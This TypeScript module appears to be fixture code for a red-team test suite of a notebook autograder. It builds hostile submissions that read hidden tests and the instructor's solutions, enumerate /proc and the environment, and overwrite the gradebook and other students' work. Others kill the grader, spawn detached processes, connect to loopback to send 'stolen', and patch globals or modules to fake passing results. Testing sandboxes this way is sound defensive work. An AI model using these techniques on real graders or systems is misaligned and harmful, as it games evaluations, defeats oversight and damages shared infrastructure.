// Hostile submissions of test/fixtures/grading/redteam.ipynb for the red-team
// suite (redteam.test.ts): each builds a real notebook, the release filled
// with the source's solutions and then changed the way an attacker would.
// Placeholders (TARGETS_JSON, OUT_DIR, PORT) are filled in by the suite.
import os from "node:os";
import path from "node:path";
import { joinText, readNotebook, type Cell, type Notebook } from "../../src/jupyter/nbformat";
import { releaseNotebook } from "../../src/grading/release";
import { solutionText } from "../../src/grading/markers";
import { gradeIdOf } from "../../src/grading/metadata";

export const SOURCE = path.resolve(__dirname, "../fixtures/grading/redteam.ipynb");
const q = JSON.stringify;

/** The release with the source's solutions, then the attack's changes. */
export function submission(edit: (set: (id: string, src: string) => void, add: (src: string, afterId?: string) => void) => void): Notebook {
  const src = readNotebook(SOURCE);
  const nb = releaseNotebook(src, SOURCE);
  const byId = (n: Notebook, id: string) => n.cells.find((c) => gradeIdOf(c) === id)!;
  for (const id of ["sigmoid-solution", "clip-solution"]) byId(nb, id).source = solutionText(joinText(byId(src, id).source));
  let k = 0;
  edit(
    (id, text) => (byId(nb, id).source = text),
    (text, afterId = "setup") => {
      const at = nb.cells.indexOf(byId(nb, afterId)) + 1;
      nb.cells.splice(at, 0, { cell_type: "code", id: `attack-${k++}`, metadata: {}, source: text, outputs: [], execution_count: null } as Cell);
    },
  );
  return nb;
}

/** A cell that puts the library's sigmoidScalar in a Map, where the static check does not follow it. */
const BOX_CELL = `const box = new Map<string, any>();\nbox.set("f", sigmoidScalar);`;
const WRONG_SIGMOID = "function sigmoid(z: number): number {\n  return 0.5;\n}";
const WRONG_CLIP = "function clip(x: number, lo: number, hi: number): number {\n  return lo;\n}";

export const ATTACKS: Record<string, () => Notebook> = {
  control: () => submission(() => {}),
  victim: () => submission(() => {}),
  // Read the source notebook (solutions, hidden tests) and run the instructor's solution through new Function.
  "read-source": () =>
    submission((set) =>
      set(
        "sigmoid-solution",
        `function sigmoid(z: number): number {
  const nb = JSON.parse(require("fs").readFileSync(${q(SOURCE)}, "utf8"));
  const cell = nb.cells.find((c: any) => c.metadata?.nbgrader?.grade_id === "sigmoid-solution");
  const body = cell.source.join("").split("\\n").filter((l: string) => !/SOLUTION|function|^}/.test(l)).join("\\n");
  return new Function("z", body)(z);
}`,
      ),
    ),
  // Look around: every process's command line (the grader's --source/--out), the environment, the folders.
  recon: () =>
    submission((set) =>
      set(
        "sigmoid-solution",
        `import * as fs from "fs";
function recon(): string[] {
  const found: string[] = [];
  const read = (p: string) => { try { return fs.readFileSync(p, "utf8").replace(/\\0/g, " "); } catch (e: any) { return "!" + e.code; } };
  const list = (p: string) => { try { return p + ": " + fs.readdirSync(p).join(","); } catch (e: any) { return p + ": !" + e.code; } };
  for (const pid of fs.readdirSync("/proc").filter((d) => /^\\d+$/.test(d))) found.push(read("/proc/" + pid + "/cmdline"));
  found.push(read("/proc/" + process.ppid + "/cmdline"), JSON.stringify(process.env), process.cwd(), list("."));
  for (const p of [${q(path.dirname(SOURCE))}, ${q(os.tmpdir())}, "/work", "/tmp", "/root", "/home"]) found.push(list(p));
  found.push(read(${q(SOURCE)}));
  return found;
}
function sigmoid(z: number): number {
  throw new Error("RECON " + JSON.stringify(recon()));
}`,
      ),
    ),
  // Overwrite another student's submission, the source, the gradebook and the library itself.
  vandal: () =>
    submission((_, add) =>
      add(`const targets: Record<string, string> = TARGETS_JSON;
const wrote: Record<string, string> = {};
for (const [what, p] of Object.entries(targets)) {
  try { require("fs").writeFileSync(p, "{}"); wrote[what] = "WROTE"; } catch (e: any) { wrote[what] = e.code; }
}
console.log(JSON.stringify(wrote));`),
    ),
  // A child that outlives grading and rewrites the gradebook; a process, a binding and a worker.
  detached: () =>
    submission((_, add) =>
      add(`const tries: string[] = [];
try { require("child_process").spawn("sh", ["-c", "sleep 4242.5; echo pwned > OUT_DIR/pwned"], { detached: true, stdio: "ignore" }).unref(); tries.push("spawned"); } catch (e: any) { tries.push(e.message); }
try { (process as any).binding("spawn_sync"); tries.push("binding"); } catch (e: any) { tries.push(e.message); }
try { new (require("worker_threads").Worker)("setTimeout(() => {}, 4242500)", { eval: true }); tries.push("worker"); } catch (e: any) { tries.push(e.message); }
console.log(tries);`),
    ),
  // Redeclare the test helpers: check, and the library function a hidden test compares with.
  "redeclare-check": () =>
    submission((set, add) => {
      set("sigmoid-solution", `function check(name: string, got: unknown, expected: unknown, options?: unknown): void {}\n${WRONG_SIGMOID}`);
      set("clip-solution", WRONG_CLIP);
      add("const sigmoidScalar = (z: number) => 0.5;", "clip-solution");
    }),
  // Patch the intrinsics the checks rely on (and pollute Object.prototype with a tolerance).
  "patch-globals": () =>
    submission((set, add) => {
      add(`const tried: Record<string, unknown> = {};
const attempt = (name: string, f: () => unknown) => { try { tried[name] = f(); } catch (e: any) { tried[name] = "refused"; } };
attempt("Number.isNaN", () => { (Number as any).isNaN = () => true; return Number.isNaN(1); });
attempt("Object.is", () => { (Object as any).is = () => true; return Object.is(1, 2); });
attempt("Object.prototype.tol", () => { Object.defineProperty(Object.prototype, "tol", { value: Infinity }); return ({} as any).tol; });
attempt("Array.prototype.every", () => { (Array.prototype as any).every = () => true; return [1].every(() => false); });
attempt("Math.abs", () => { (Math as any).abs = () => 0; return Math.abs(-1); });
attempt("globalThis.Number", () => { (globalThis as any).Number = { isNaN: () => true, isFinite: () => true }; return typeof Number; });
attempt("timer", () => setInterval(() => { try { (Number as any).isNaN = () => true; } catch {} }, 0));
console.log(tried);`);
      set("sigmoid-solution", "function sigmoid(z: number): number {\n  return NaN;\n}");
      set("clip-solution", "function clip(x: number, lo: number, hi: number): number {\n  return NaN;\n}");
    }),
  // Patch the kernel's and the library's modules through require.cache, and the machinery that runs cells.
  "patch-modules": () =>
    submission((set, add) => {
      add(`const patched: string[] = [];
const tryTo = (what: string, f: () => boolean) => { try { if (f()) patched.push(what); } catch { /* refused */ } };
// Load every module of the library first: the entry loads its modules on first use, so one loaded here
// before the tests touch it would be the one they get.
const fs_: any = require("fs"), path_: any = require("path");
const walk = (d: string): string[] => fs_.readdirSync(d, { withFileTypes: true }).flatMap((e: any) => (e.isDirectory() ? walk(path_.join(d, e.name)) : e.name.endsWith(".js") ? [path_.join(d, e.name)] : []));
try { for (const f of walk(path_.dirname(require.resolve("descent")))) { try { require(f); } catch { /* not loadable here */ } } } catch { /* no library folder */ }
for (const [file, mod] of Object.entries(require.cache)) {
  const ex: any = mod?.exports;
  if (!ex) continue;
  // The kernel's engine: every later cell "runs" without running.
  if (ex.Engine) tryTo("Engine.execute", () => { const f = async () => ({ status: "ok", hasValue: false, warnings: [] }); ex.Engine.prototype.execute = f; return ex.Engine.prototype.execute === f; });
  // The library's check, where it is defined (index.js re-exports it through a getter).
  if (file.endsWith("check.js") && typeof ex.check === "function") tryTo(file, () => { const f = () => {}; ex.check = f; return ex.check === f; });
}
const vm: any = require("vm");
tryTo("vm.runInThisContext", () => { const orig = vm.runInThisContext; const f = (code: string, o: any) => orig(code.replace(/\\bcheck\\(/g, "void ("), o); vm.runInThisContext = f; return vm.runInThisContext === f; });
const M = require("module") as any;
tryTo("Module._load", () => { const orig = M._load; const f = function (this: any, r: string, ...a: any[]) { return r === "descent" ? { check() {}, sigmoidScalar: () => 0.5 } : orig.call(this, r, ...a); }; M._load = f; return M._load === f; });
console.log("patched:", patched);`);
      set("sigmoid-solution", WRONG_SIGMOID);
      set("clip-solution", WRONG_CLIP);
    }),
  // Print the lines a passing check prints.
  "fake-output": () =>
    submission((set, add) => {
      add(`const log = console.log;
console.log = (...a: unknown[]) => log("✓", ...a);
process.stdout.write("✓ sigmoid(0)\\n✓ sigmoid(2)\\n✓ clip(5, 0, 1)\\n");`);
      set("sigmoid-solution", `${WRONG_SIGMOID}\nconsole.log("✓ sigmoid agrees with descent's sigmoidScalar");`);
      set("clip-solution", WRONG_CLIP);
    }),
  // Kill the grader (the kernel's parent) from the clip solution.
  "kill-parent": () => submission((set) => set("clip-solution", `function clip(x: number, lo: number, hi: number): number {\n  return Math.min(hi, Math.max(lo, x));\n}\nprocess.kill(process.ppid, "SIGKILL");`)),
  // Leave the sandbox's network namespace: connect to a server on the grader's loopback.
  network: () =>
    submission((_, add) =>
      add(`const net = require("net");
const s = net.connect(PORT, "127.0.0.1");
s.on("error", () => {});
s.write("stolen");
fetch("http://127.0.0.1:PORT/").catch(() => {});`),
    ),
  // Reach around the lockdown: the inspector, workers, native addons, eval, process.binding.
  hatches: () =>
    submission((set) =>
      set(
        "sigmoid-solution",
        `const outcome: Record<string, string> = {};
const t = (k: string, f: () => unknown) => { try { f(); outcome[k] = "ALLOWED"; } catch (e: any) { outcome[k] = "refused: " + String(e?.message).slice(0, 60); } };
t("inspector", () => require("inspector"));
t("node:inspector", () => require("node:inspector"));
t("process.binding", () => (process as any).binding("inspector"));
t("_linkedBinding", () => (process as any)._linkedBinding("inspector"));
t("dlopen", () => (process as any).dlopen({ exports: {} }, process.execPath));
t("worker", () => new (require("worker_threads").Worker)("1", { eval: true }));
t("eval", () => eval("1 + 1"));
t("Function", () => new Function("return 1")());
t("v8", () => require("v8").setFlagsFromString("--allow-natives-syntax"));
t("child_process", () => require("child_process").execSync("id"));
t("replace Module._load", () => { const M = require("module") as any; const mine = () => 1; M._load = mine; if (M._load !== mine) throw new Error("frozen"); });
function sigmoid(z: number): number {
  throw new Error("HATCHES " + JSON.stringify(outcome));
}`,
      ),
    ),
  // Find the tests' locked global and replace, redefine or shadow it.
  anchor: () =>
    submission((set, add) => {
      add(`const names = Object.getOwnPropertyNames(globalThis).filter((n) => n.startsWith("dg$"));
for (const n of names) {
  const fake = { descent: { check() {}, sigmoidScalar: () => 0.5 } };
  try { (globalThis as any)[n] = fake; } catch {}
  try { Object.defineProperty(globalThis, n, { value: fake }); } catch {}
  try { delete (globalThis as any)[n]; } catch {}
  try { (globalThis as any).__tslab__.exports[n] = fake; } catch {}
  try { (globalThis as any)[n].descent.check = () => {}; } catch {}
}
console.log("anchors:", names.length);`);
      set("sigmoid-solution", WRONG_SIGMOID);
      set("clip-solution", WRONG_CLIP);
    }),
  // Shadow only the library function one hidden test compares with (the others pin numbers).
  "library-shadow": () =>
    submission((set, add) => {
      set("sigmoid-solution", "function sigmoid(z: number): number {\n  return 0.5 + z / 4;\n}");
      add("function sigmoidScalar(z: number): number {\n  return sigmoid(z);\n}", "sigmoid-solution");
    }),
  // Values that are not what they claim: a Proxy for a number, an object whose valueOf lies.
  exotic: () =>
    submission((set) => {
      set("sigmoid-solution", "function sigmoid(z: number): number {\n  return new Proxy({}, { get: () => () => 0.5 }) as any;\n}");
      set("clip-solution", "function clip(x: number, lo: number, hi: number): number {\n  let n = 0;\n  return { valueOf: () => [1, 0, 0.25][n++ % 3] } as any;\n}");
    }),
  // Read the expected values out of the calling test's source: a sloppy function's .caller is the test
  // cell's function when that cell is sloppy too. Written as a file module, as cells are strict.
  "caller-oracle": () =>
    submission((set) =>
      set(
        "sigmoid-solution",
        `const fs_: any = require("fs"), path_: any = require("path");
fs_.writeFileSync("oracle.js", ${q(`module.exports = function sigmoid(z) {
  const caller = sigmoid.caller;
  if (caller === null) throw new Error("ORACLE: the caller is null");
  const found = {};
  for (const m of String(caller).matchAll(/sigmoid\\((-?[\\d.]+)\\),\\s*(-?[\\d.e-]+)/g)) found[m[1]] = Number(m[2]);
  if (!(String(z) in found)) throw new Error("ORACLE: no expected value for " + z);
  return found[String(z)];
};
`)});
const sigmoid: (z: number) => number = require(path_.resolve("oracle.js"));`,
      ),
    ),
  // Shadow a standard global a hidden test uses: a top-level const Object is what a later cell's Object.is reads.
  "shadow-global": () =>
    submission((set) =>
      set("clip-solution", `const Object: any = { is: () => true };
function clip(x: number, lo: number, hi: number): number {
  return x > lo && x < hi ? x + 1e-9 : Math.min(hi, Math.max(lo, x));
}`),
    ),
  // Walk every object reachable from globalThis, the module cache and process (data properties, Map and Set
  // entries, prototypes) for a string holding a hidden test's text, "800)": the running test cell's source
  // kept anywhere the kernel can reach would show. "control" counts module file names, which it must find.
  "heap-walk": () =>
    submission((set) =>
      set("sigmoid-solution", `function sigmoid(z: number): number {
  const seen = new Set<unknown>(), found: string[] = [];
  const queue: [unknown, string][] = [[globalThis, "globalThis"], [require.cache, "require.cache"], [process, "process"], [(process as any).mainModule, "mainModule"]];
  let visited = 0, control = 0;
  while (queue.length && visited < 400000) {
    const [o, p] = queue.shift()!;
    if (o === null || (typeof o !== "object" && typeof o !== "function") || seen.has(o)) continue;
    seen.add(o); visited++;
    let keys: (string | symbol)[] = [];
    try { keys = Reflect.ownKeys(o as object); } catch { continue; }
    if (o instanceof Map) { let i = 0; for (const [k, v] of o) { queue.push([v, p + ".get(" + i + ")"]); queue.push([k, p + ".key(" + i++ + ")"]); } }
    if (o instanceof Set) { let i = 0; for (const v of o) queue.push([v, p + ".set(" + i++ + ")"]); }
    for (const k of keys) {
      let v: unknown;
      try { const d = Object.getOwnPropertyDescriptor(o, k); v = d && "value" in d ? d.value : undefined; } catch { continue; }
      const kp = p + "." + String(k);
      if (typeof v === "string") { if (v.includes("800)")) found.push(kp + " = " + v.slice(0, 80)); if (v.endsWith("kernelspec.js")) control++; }
      else if (v && (typeof v === "object" || typeof v === "function")) {
        if (ArrayBuffer.isView(v as any)) continue;
        queue.push([v, kp]);
      }
    }
    try { const proto = Object.getPrototypeOf(o); if (proto) queue.push([proto, p + ".__proto__"]); } catch {}
  }
  throw new Error("PROBE visited " + visited + " control " + control + " found " + found.length + ": " + found.slice(0, 8).join(" | "));
}`),
    ),
  // Move the solution out of its cell, so that the cell the shortcut analysis reads declares nothing.
  "moved-out": () =>
    submission((set, add) => {
      set("sigmoid-solution", "// sigmoid is in the next cell");
      add("function sigmoid(z: number): number {\n  return sigmoidScalar(z);\n}", "sigmoid-solution");
    }),
  // Reach the library through something the static shortcut check never sees hold it; each of these
  // scored full marks before the gate (sandbox/gate.ts). The tests' anchor, found among the global names:
  "anchor-library": () =>
    submission((set) =>
      set(
        "sigmoid-solution",
        `function sigmoid(z: number): number {
  const g = globalThis as any;
  return g[Object.getOwnPropertyNames(g).find((n) => n.startsWith("dg$"))!].descent.sigmoidScalar(z);
}`,
      ),
    ),
  // A Map filled in another cell.
  "map-box": () =>
    submission((set, add) => {
      add(BOX_CELL);
      set("sigmoid-solution", `function sigmoid(z: number): number {\n  return box.get("f")(z);\n}`);
    }),
  // The solution is the library's function itself, taken from the Map: no code of the student's runs.
  "map-alias": () =>
    submission((set, add) => {
      add(BOX_CELL);
      set("sigmoid-solution", `const sigmoid: (z: number) => number = box.get("f");`);
    }),
  // The kernel's scope object, where the setup cell's imports live.
  "scope-symbol": () =>
    submission((set) =>
      set("sigmoid-solution", `function sigmoid(z: number): number {\n  return (globalThis as any)[Symbol.for("descent.kernel.scope")].exports.sigmoidScalar(z);\n}`),
    ),
  // A module the notebook writes, which requires the library.
  "file-require": () =>
    submission((set, add) => {
      add(`require("fs").writeFileSync("helper.js", 'module.exports = require("descent").sigmoidScalar;');`);
      set("sigmoid-solution", `const helper = require("./helper.js");\nfunction sigmoid(z: number): number {\n  return helper(z);\n}`);
    }),
  // Try to take the tests' own entries (without the grader's token), or to read stacks the gate's way; then call anyway.
  "gate-entries": () =>
    submission((set) =>
      set(
        "sigmoid-solution",
        `function sigmoid(z: number): number {
  const g = globalThis as any;
  const anchor = g[Object.getOwnPropertyNames(g).find((n) => n.startsWith("dg$"))!];
  const notes: string[] = [];
  for (const token of ["", "0".repeat(32), Object.getOwnPropertyNames(g).find((n) => n.startsWith("dg$"))!]) {
    try { return anchor[" gate"]("sigmoid-tests", token, []).modules.descent.sigmoidScalar(z); } catch (e: any) { notes.push(e.message); }
  }
  try { (Error as any).prepareStackTrace = (_e: unknown, s: unknown) => s; } catch (e: any) { notes.push(e.message); }
  try { return anchor.descent.sigmoidScalar(z); } catch (e: any) { notes.push(e.message); }
  throw new Error("GATE " + notes.join(" | "));
}`,
      ),
    ),
};

export const RESOURCE_ATTACKS: Record<string, () => Notebook> = {
  // 4 GB of Buffers, and a JavaScript heap that grows without end.
  memory: () =>
    submission((set) => {
      set("sigmoid-solution", `const hoard: Buffer[] = [];\nfor (let i = 0; i < 40; i++) hoard.push(Buffer.alloc(100e6, 1));\n${WRONG_SIGMOID}`);
      set("clip-solution", `const heap: number[][] = [];\nfor (;;) heap.push(new Array(1e7).fill(1.5));\n${WRONG_CLIP}`);
    }),
  // A loop that never ends, longer than the CPU limit but shorter than the cell timeout.
  cpu: () => submission((set) => set("sigmoid-solution", `let spin = 0;\nwhile (true) spin++;\n${WRONG_SIGMOID}`)),
  // Fill the working folder.
  disk: () => submission((set) => set("sigmoid-solution", `const chunk = Buffer.alloc(1 << 20, 1);\nfor (let i = 0; i < 1000; i++) require("fs").appendFileSync("fill.bin", chunk);\n${WRONG_SIGMOID}`)),
};

